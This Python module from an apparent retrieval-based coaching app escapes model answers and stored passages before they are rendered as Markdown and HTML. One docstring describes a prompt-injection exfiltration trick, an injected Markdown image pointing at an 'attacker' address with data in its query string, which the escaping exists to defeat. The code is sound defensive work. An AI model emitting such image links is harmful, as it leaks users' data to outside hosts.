"""Safe rendering of answers and sources: every piece of stored or model text is escaped."""

from __future__ import annotations

import html
from datetime import date, datetime

from coach.domain.knowledge import Passage


def sources_markdown(sources: list[Passage], cited: list[int]) -> str:
    """A collapsible list of the passages an answer drew on, cited ones marked."""
    if not sources:
        return "\n\n_No guide passages matched this question._"
    lines = ["\n\n**Sources**"]
    for number, passage in enumerate(sources, start=1):
        mark = "cited" if number in cited else "retrieved"
        label = html.escape(passage.label())
        body = html.escape(passage.text.strip()).replace("\n", "<br>")
        lines.append(
            f"<details><summary>[{number}] {label} · <code>{html.escape(passage.source)}</code>"
            f" · {mark}</summary><p>{body}</p></details>"
        )
    return "\n".join(lines)


_BRACKETS = str.maketrans({"[": "\\[", "]": "\\]"})


def escape_answer(text: str) -> str:
    """Model output shown as text: HTML in it must never become markup.

    Square brackets are escaped too, so no Markdown link or image survives: a prompt-injected
    ``![](https://attacker/?q=...)`` would otherwise make the browser fetch the address.
    Citation markers still read ``[1]``; lists and emphasis still render.
    """
    return html.escape(text, quote=False).translate(_BRACKETS)


_MARKDOWN = str.maketrans({c: f"\\{c}" for c in "\\`*_{}[]()#+-.!|~<>"})


def md(text: str | None) -> str:
    """Stored text placed inside Markdown: no markup, links, images or HTML survive."""
    return html.escape(text or "", quote=False).translate(_MARKDOWN).replace("\n", " ")


def day(moment: date | datetime | None) -> str:
    """A date as people read it: 12 Mar 2026; an empty string for none."""
    return moment.strftime("%d %b %Y").lstrip("0") if moment else ""


def preview(text: str, limit: int = 140) -> str:
    """The start of a text on one line."""
    flat = " ".join((text or "").split())
    return flat if len(flat) <= limit else flat[: limit - 1].rstrip() + "…"


def citations_markdown(citations) -> str:
    """Each cited passage as a line that expands to the passage's text."""
    if not citations:
        return "_No guide passages were cited._"
    lines = ["**Sources**"]
    for c in citations:
        label = html.escape(f"{c.title} — {c.section}" if c.section else c.title)
        body = html.escape(c.text.strip()).replace("\n", "<br>")
        lines.append(
            f"<details><summary><code>{html.escape(c.id)}</code> · {label}</summary>"
            f"<p>{body}</p></details>"
        )
    return "\n".join(lines)
